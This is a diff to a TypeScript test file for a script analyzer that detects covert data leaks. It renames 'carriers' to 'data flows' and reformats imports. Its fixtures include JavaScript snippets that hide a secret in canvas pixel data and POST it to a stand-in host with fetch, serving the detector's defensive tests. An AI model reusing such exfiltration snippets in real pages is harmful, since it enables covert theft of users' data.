@@ -1,12 +1,17 @@
 import { describe, expect, test } from "vitest";
 import { analyzeScript } from "../analyze-script.ts";
-import { type Carrier, expectHarmlessOnOwnSite, expectHarmlessWithoutSecret, expectLeak } from "../testing/carriers.ts";
+import {
+	type DataFlow,
+	expectHarmlessOnOwnSite,
+	expectHarmlessWithoutSecret,
+	expectLeak,
+} from "../testing/data-flow-checks.ts";
 import { sinksOf, traceOf } from "../testing/trace-of.ts";
 
 const CANVAS = `const canvas = document.createElement("canvas"), pen = canvas.getContext("2d");`;
 
-/** Data in streams, in addresses that are made part by part, and in what objects become when they are sent. */
-const CARRIERS: readonly Carrier[] = [
+/** Data in streams, in addresses built step by step, and in serialized objects. */
+const FLOWS: readonly DataFlow[] = [
 	[
 		"pixels of a new picture",
 		`${CANVAS} const image = new ImageData(new Uint8ClampedArray(400), 10, 10); for (let at = 0; at < SECRET.length; at++) image.data[at * 4] = SECRET.charCodeAt(at); fetch("HOST", { method: "POST", body: image.data });`,
@@ -66,11 +71,11 @@ const CARRIERS: readonly Carrier[] = [
 const POSTS = `.toBlob((body) => fetch("https://c.test", { method: "POST", body }));`;
 
 describe("data in streams and parts of addresses", () => {
-	test.each(CARRIERS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
-	test.each(CARRIERS)("%s carries nothing when there is nothing to carry", (_title, code) =>
+	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
+	test.each(FLOWS)("%s carries nothing when there is nothing to carry", (_title, code) =>
 		expectHarmlessWithoutSecret(code),
 	);
-	test.each(CARRIERS)("%s may carry anything on the site itself", (_title, code) => expectHarmlessOnOwnSite(code));
+	test.each(FLOWS)("%s may carry anything on the site itself", (_title, code) => expectHarmlessOnOwnSite(code));
 });
 
 describe("what is painted", () => {
